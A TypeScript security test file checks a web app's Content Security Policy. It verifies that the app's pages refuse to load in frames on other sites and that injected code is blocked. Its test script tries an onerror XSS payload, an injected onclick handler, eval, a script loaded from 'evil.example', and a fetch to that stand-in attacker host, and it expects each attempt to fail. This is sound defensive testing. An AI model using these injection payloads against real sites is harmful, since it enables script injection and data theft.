import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { describe, expect } from 'vitest'
import { journey } from './journey.ts'

const refused = /Content Security Policy|frame-ancestors|TrustedHTML|TrustedScript|Trusted Types/

// URL of Chromium’s error page for a blocked frame.
const blocked = 'chrome-error://chromewebdata/'

/** Serves a page from another origin that embeds the given URL in a frame. */
async function serveFramingPage(framed: string) {
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html')
    response.end(`<title>Somebody else</title><iframe src="${framed}" width="800" height="600"></iframe>`)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return { url: `http://127.0.0.1:${port}/`, stop: () => server.close() }
}

/** Script that tries to inject code into the page. Returns the result of each attempt and the policy reports. */
const attempts = `(async () => {
  const reports = []
  document.addEventListener('securitypolicyviolation', (event) => reports.push(event.effectiveDirective))
  const tried = (work) => { try { work(); return 'done' } catch (error) { return error.name } }
  const script = document.createElement('script')
  const inline = tried(() => { script.append('window.taken = "inline"'); document.body.append(script) })
  const elsewhere = document.createElement('script')
  const foreign = tried(() => { elsewhere.src = 'https://evil.example/x.js'; document.body.append(elsewhere) })
  const html = tried(() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.taken = 1">') })
  const handler = tried(() => { document.body.setAttribute('onclick', 'window.taken = 2'); document.body.click() })
  const style = document.createElement('style')
  style.append('body { outline: 7px solid red }')
  document.head.append(style)
  const stolen = await fetch('https://evil.example/').then(() => 'sent', () => 'refused')
  // Runs in a timeout, because the policy does not block eval in code that Playwright evaluates directly.
  const evaluated = await new Promise((resolve) =>
    setTimeout(() => resolve(tried(() => (0, eval)('window.taken = "eval"'))), 200))
  const { outlineStyle } = getComputedStyle(document.body)
  return { inline, foreign, html, handler, evaluated, stolen, outlineStyle, taken: window.taken ?? null, reports }
})()`

describe('Content Security Policy', () => {
  journey('blocks app pages in a frame on any site (security check H02)', async ({ app, newContext, visit }) => {
    for (const path of ['/', '/login', '/safety']) {
      const site = await serveFramingPage(app.origin + path)
      const context = await newContext()
      const page = await context.newPage()
      const messages: string[] = []
      page.on('console', (message) => messages.push(message.text()))
      await page.goto(site.url, { waitUntil: 'load' })
      expect(await page.title()).toBe('Somebody else')
      await expect.poll(() => messages.some((text) => /frame-ancestors/.test(text))).toBe(true)
      const inside = page.frames().filter((frame) => frame !== page.mainFrame())
      expect(inside).toHaveLength(1)
      await expect.poll(() => inside[0]?.url()).toBe(blocked)
      site.stop()
    }
    const own = await visit('/safety', { provoked: refused })
    await own.evaluate("document.body.append(Object.assign(document.createElement('iframe'), { src: '/login' }))")
    await expect.poll(() => own.frames().at(-1)?.url()).toBe(blocked)
  })

  journey(
    'blocks injected scripts, handlers and styles, eval, and requests to other origins (security check H03)',
    async ({ visit, aMember }) => {
      const member = await aMember({}, { provoked: refused })
      for (const page of [await visit('/', { provoked: refused }), member.page]) {
        if (page === member.page) await page.goto('/dashboard')
        await page.locator('main').first().waitFor()
        const outcome = await page.evaluate<Record<string, unknown>>(attempts)
        expect(outcome).toMatchObject({ taken: null, outlineStyle: 'none', stolen: 'refused', evaluated: 'EvalError' })
        expect(outcome.html).toBe('TypeError')
        expect(outcome.reports).toEqual(
          expect.arrayContaining(['require-trusted-types-for', 'style-src-elem', 'connect-src']),
        )
      }
    },
  )
})
